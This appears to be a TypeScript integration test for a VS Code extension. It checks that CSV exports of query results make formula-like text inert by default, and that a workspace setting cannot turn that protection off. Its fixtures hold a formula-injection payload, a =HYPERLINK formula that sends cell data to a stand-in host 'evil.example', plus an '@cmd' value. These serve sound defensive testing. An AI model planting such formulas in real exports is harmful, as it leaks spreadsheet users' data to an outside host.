// A CSV export of a query whose text values would run as spreadsheet formulas (anyone who sends
// events can put `=HYPERLINK(...)` into a page URL): in the real editor, against the sandbox, the
// file has them made inert; the user's `export.neutraliseFormulas: false` writes them raw; a
// workspace's settings cannot turn the protection off.
import * as assert from "node:assert/strict";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import * as vscode from "vscode";
import type { ExtensionApi } from "../../src/extension";
import { resultsViewType, type QueryResult } from "../../src/resultsPanel";
import { ResultsPanel, webviewOptions } from "../../src/resultsPanel/panel";
import type { Sandbox } from "../sandbox";
import { endScriptedTest, restoreResults, signedIn, startScriptedTest } from "./fixture";
import { waitFor } from "./helpers";
import type { ScriptedUi } from "./scriptedUi";

const SETTING = "export.neutraliseFormulas";
const SQL = `SELECT '=HYPERLINK("https://evil.example/?d="&A1,"Open")' AS link, -5 AS n, '@cmd' AS s`;
const SAFE =
    "link,n,s\r\n" + `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")",-5,'@cmd\r\n`;
const RAW = "link,n,s\r\n" + `"=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")",-5,@cmd\r\n`;

describe("CSV export of formula-like text from a query", function () {
    let api: ExtensionApi;
    let sandbox: Sandbox;
    let ui: ScriptedUi;
    let shown: QueryResult[][];
    let panel: ResultsPanel | undefined;
    let dir: string;
    const section = () => vscode.workspace.getConfiguration("posthog-workbench");
    const workspaceSettings = () =>
        path.join(vscode.workspace.workspaceFolders![0].uri.fsPath, ".vscode", "settings.json");

    before(async () => {
        ({ api, sandbox } = await signedIn());
    });

    beforeEach(() => {
        ({ ui, shown } = startScriptedTest(api, sandbox));
        dir = fs.mkdtempSync(path.join(os.tmpdir(), "formulas-"));
    });

    afterEach(async () => {
        panel?.dispose();
        panel = undefined;
        await section().update(SETTING, undefined, vscode.ConfigurationTarget.Global);
        await endScriptedTest(ui);
        fs.rmSync(dir, { recursive: true, force: true });
    });

    after(() => restoreResults(api));

    /** Runs the query as a user does and shows its result in a panel wired as the extension's. */
    async function runAndShow(): Promise<void> {
        const document = await vscode.workspace.openTextDocument({
            language: "hogql",
            content: SQL,
        });
        await vscode.window.showTextDocument(document);
        await vscode.commands.executeCommand("posthog-workbench.runQuery");
        assert.equal(shown.length, 1, "the query ran");
        panel = new ResultsPanel(
            vscode.window.createWebviewPanel(
                resultsViewType,
                "Results",
                { viewColumn: vscode.ViewColumn.Beside, preserveFocus: true },
                webviewOptions(api.ctx.extensionUri),
            ),
            {
                extensionUri: api.ctx.extensionUri,
                log: api.ctx.log,
                prompts: api.ctx,
                neutraliseFormulas: () => api.ctx.config.neutraliseFormulas,
            },
        );
        panel.show(shown[0], null);
    }

    /** Exports the shown result as CSV through the page's request and returns the file's text. */
    async function exportCsv(name: string): Promise<string> {
        const target = path.join(dir, name);
        ui.answer(target);
        await panel!.receive({ type: "export", resultId: "0", format: "csv" });
        return fs.readFileSync(target, "utf8");
    }

    it("makes them inert by default, and writes them raw when the user turns that off", async () => {
        await runAndShow();
        assert.equal(await exportCsv("safe.csv"), SAFE);
        await section().update(SETTING, false, vscode.ConfigurationTarget.Global);
        assert.equal(await exportCsv("raw.csv"), RAW);
    });

    it("keeps them inert when the workspace's settings turn it off", async () => {
        const file = workspaceSettings();
        const before = fs.existsSync(file) ? fs.readFileSync(file, "utf8") : undefined;
        const settings = before ? (JSON.parse(before) as Record<string, unknown>) : {};
        fs.mkdirSync(path.dirname(file), { recursive: true });
        // A marker beside it: VS Code reports no workspace value of an application setting, so
        // the marker's says the file was read.
        const marker = `ws-${Date.now()}`;
        fs.writeFileSync(
            file,
            JSON.stringify(
                {
                    ...settings,
                    [`posthog-workbench.${SETTING}`]: false,
                    "posthogWorkbenchTest.marker": marker,
                },
                null,
                4,
            ),
        );
        try {
            await waitFor(
                "the workspace settings read",
                () =>
                    vscode.workspace.getConfiguration("posthogWorkbenchTest").inspect("marker")
                        ?.workspaceValue === marker || undefined,
            );
            assert.equal(api.ctx.config.neutraliseFormulas, true);
            await runAndShow();
            assert.equal(await exportCsv("workspace.csv"), SAFE);
        } finally {
            if (before === undefined) fs.rmSync(file);
            else fs.writeFileSync(file, before);
        }
    });
});
